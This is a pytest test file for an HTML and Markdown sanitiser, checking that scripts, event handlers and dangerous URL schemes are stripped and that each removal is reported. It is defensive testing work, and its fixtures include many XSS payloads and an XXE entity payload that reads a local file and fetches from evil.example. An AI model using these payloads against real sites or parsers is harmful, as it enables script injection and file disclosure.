"""Raw HTML: nothing that runs gets through, and what was taken away is told."""

from __future__ import annotations

import socket
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import html as lxml_html

from disclosure.render.markdown import MarkdownConverter
from disclosure.render.sanitize import ATTRIBUTES, SCHEMES, TAGS, needs_look, removals, sanitize
from disclosure.settings import MarkdownSettings

# (as an editor could write it in a text, what a finding must name)
ATTACKS = [
    ("<script>alert(1)</script>", "script"),
    ("<ScRiPt src=//evil.example/x.js></sCrIpT>", "script"),
    ("<p onclick='alert(1)'>甲</p>", "onclick"),
    ("<img src=x onerror=alert(1)>", "onerror"),
    ("<svg onload=alert(1)><circle/></svg>", "svg"),
    ("<math><mtext></mtext></math>", "math"),
    ("<iframe src='https://evil.example'></iframe>", "iframe"),
    ("<object data='x.swf'></object>", "object"),
    ("<embed src='x.swf'>", "embed"),
    ("<form action='https://evil.example'><input name=a></form>", "form"),
    ("<style>body{display:none}</style>", "style"),
    ("<p style='background:url(//evil.example)'>甲</p>", "style"),
    ("<meta http-equiv=refresh content='0;url=//evil.example'>", "meta"),
    ("<base href='//evil.example/'>", "base"),
    ("<link rel=stylesheet href='//evil.example/x.css'>", "link"),
    ("<a href='javascript:alert(1)'>甲</a>", "javascript:"),
    ("<a href=' JaVaScRiPt:alert(1)'>甲</a>", "JaVaScRiPt:"),
    ("<a href='java&#10;script:alert(1)'>甲</a>", "script:"),
    ("<a href='java&#x09;script:alert(1)'>甲</a>", "script:"),
    ("<a href='&#106;avascript:alert(1)'>甲</a>", "javascript:"),
    ("<a href='vbscript:msgbox(1)'>甲</a>", "vbscript:"),
    ("<a href='data:text/html,<script>alert(1)</script>'>甲</a>", "data:"),
    ("<img src='data:image/svg+xml;base64,PHN2Zz4='>", "data:"),
    ("<a href='file:///C:/x.docx'>甲</a>", "file:"),
    ("[甲](javascript:alert(1))", "javascript:"),
    ("[甲](javascript&#58;alert(1))", "javascript:"),
    ("[甲](java&Tab;script:alert(1))", "script:"),
    ("[甲](data:text/html;base64,PHN2Zz4=)", "data:"),
    ("[甲](file:///C:/Users/a/x.docx)", "file:"),
    ("[甲](ftp://ftp.example.gov.cn/x.zip)", "ftp:"),
    ("[甲][1]\n\n[1]: ftp://ftp.example.gov.cn/x.zip", "ftp:"),
    ("![甲](blob:x)", "blob:"),
    ("甲\n{: onclick='alert(1)' }", "onclick"),
]
FORBIDDEN_TEXT = ("<script", "javascript:", "vbscript:", "onerror", "onclick", "onload", "evil")


def rendered(text: str) -> str:
    return (
        MarkdownConverter(MarkdownSettings(("tables", "toc", "attr_list")))
        .convert(text, title="")
        .html
    )


def assert_harmless(html: str) -> None:
    """As a browser's parser sees it: only elements, attributes and schemes that are allowed."""
    root = lxml_html.fragment_fromstring(html, create_parent="div")
    for element in root.iterdescendants():
        assert element.tag in TAGS
        allowed = ATTRIBUTES["*"] | ATTRIBUTES.get(str(element.tag), set())
        for name, value in element.attrib.items():
            assert name in allowed
            if name in ("href", "src", "poster", "cite"):
                scheme, colon, _ = "".join(str(value).split()).partition(":")
                outside = colon and not set("/?#") & set(scheme)
                assert not outside or scheme.lower() in SCHEMES


@pytest.mark.parametrize(("text", "named"), ATTACKS)
def test_nothing_that_runs_gets_through(text: str, named: str) -> None:
    clean = sanitize(rendered(text))
    assert_harmless(clean)
    assert not [word for word in FORBIDDEN_TEXT if word in clean.lower()]


@pytest.mark.parametrize(("text", "named"), ATTACKS)
def test_what_was_taken_away_is_told(text: str, named: str) -> None:
    assert needs_look(text)
    told = "".join("".join(removed.what.split()) for removed in removals(rendered(text)))
    assert named in told


@pytest.mark.parametrize(
    "text",
    [
        "正文，价格 < 5 元，a<b，1 < 2 > 0。",
        "[甲](a.md) ![乙](b.png) <https://www.gov.cn/> [丙](tel:12345) [丁](mailto:a@example.cn)",
        "| a | b |\n| :-- | --: |\n| 1 | 2 |",
        "<details open><summary>问</summary>答</details>",
        "<table><tr><td colspan='2' style='text-align:center'>甲</td></tr></table>",
        "`<script>` 是代码",
        "    <script>",
        "时间：10:30，比例 1:2，见 表:一。",
    ],
)
def test_what_a_notice_needs_stays(text: str) -> None:
    html = rendered(text)
    assert removals(html) == ()
    before = lxml_html.fragment_fromstring(html, create_parent="div")
    after = lxml_html.fragment_fromstring(sanitize(html), create_parent="div")
    assert before.text_content() == after.text_content()
    # The sanitiser's parser adds the rows' group that a browser adds, too.
    tags = [[e.tag for e in root.iter() if e.tag != "tbody"] for root in (before, after)]
    assert tags[0] == tags[1]


def test_nothing_is_fetched_and_no_entity_is_resolved(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("秘密内容")

    def refuse(*_: object) -> None:
        raise AssertionError("a connection was opened")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    text = (
        f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{secret}"><!ENTITY y "甲乙">'
        '<!ENTITY % z SYSTEM "http://evil.example/z.dtd"> %z;]>\n'
        "<p>&x;&y;</p><?xml-stylesheet href='http://evil.example/x.xsl'?>\n"
    )
    html = rendered(text)
    assert "秘密" not in "".join(removed.what for removed in removals(html)) + sanitize(html)


@given(
    st.lists(
        st.sampled_from(
            ["<", ">", "</", "/>", "script", "a", "img", "svg", "style", " ", "=", "'", '"', "href",
             "src", "onerror", "javascript:", "&#", "58;", "x", "<!--", "-->", "<![CDATA[", "]]>",
             "<p>", "<table>", "<td>", "\n", "\0", "甲", "<math>", "<noscript>", "<title>"]
        ),
        max_size=25,
    ).map("".join)
)  # fmt: skip
def test_whatever_is_written_the_result_is_harmless(html: str) -> None:
    clean = sanitize(html)
    if clean.strip():
        assert_harmless(clean)
    assert sanitize(clean) == clean
    removals(html)
